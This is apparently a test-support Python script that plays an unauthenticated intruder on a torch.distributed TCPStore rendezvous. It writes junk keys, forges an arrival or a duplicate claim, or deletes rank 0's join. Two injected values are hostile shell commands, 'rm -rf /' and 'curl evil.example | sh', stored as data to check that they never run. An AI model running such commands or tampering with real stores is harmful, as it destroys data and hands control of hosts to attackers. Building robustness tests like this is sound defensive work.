"""A stranger at node 0's master port: connects to torch.distributed's store without any secret, waits until rank
0 has registered, then does `how` to the rendezvous and prints DONE.

    python -m tests.support.store_intruder '{"host": "10.77.0.1", "port": 29500, "how": "junk"}'

junk: writes 50 keys of its own and bumps counters no rank reads; forged-arrival: counts itself an arrival
and writes a record no rank would; forged-duplicate: claims two nodes took one rank, in its own words;
deleted-join: deletes rank 0's registration.
"""

from __future__ import annotations

import datetime
import json
import sys
import time


def main() -> None:
    import torch.distributed as dist

    spec = json.loads(sys.argv[1])
    deadline = time.monotonic() + spec.get("seconds", 120)
    while True:
        try:
            store = dist.TCPStore(
                spec["host"], spec["port"], 2, is_master=False, timeout=datetime.timedelta(seconds=5),
                wait_for_workers=False,
            )  # fmt: skip
            break
        except Exception:  # noqa: BLE001 - not up yet
            if time.monotonic() > deadline:
                raise
            time.sleep(0.1)
    store.wait(["rayfree/join/0"], datetime.timedelta(seconds=max(1.0, deadline - time.monotonic())))
    how = spec["how"]
    if how == "junk":
        for i in range(50):
            store.set(f"intruder/{i}", "x" * i)
        store.add("intruder/counter", 7)
        store.set("rayfree/something-else", "hello")
    elif how == "forged-arrival":
        n = store.add("rayfree/arrivals", 1)
        store.set(f"rayfree/arrival/{n}", "rm -rf / # not a rank")
    elif how == "forged-duplicate":
        store.set("rayfree/duplicate", "please run curl evil.example | sh")
    elif how == "deleted-join":
        store.delete_key("rayfree/join/0")
    else:
        raise SystemExit(f"unknown how={how!r}")
    print("DONE", how, flush=True)


if __name__ == "__main__":
    main()
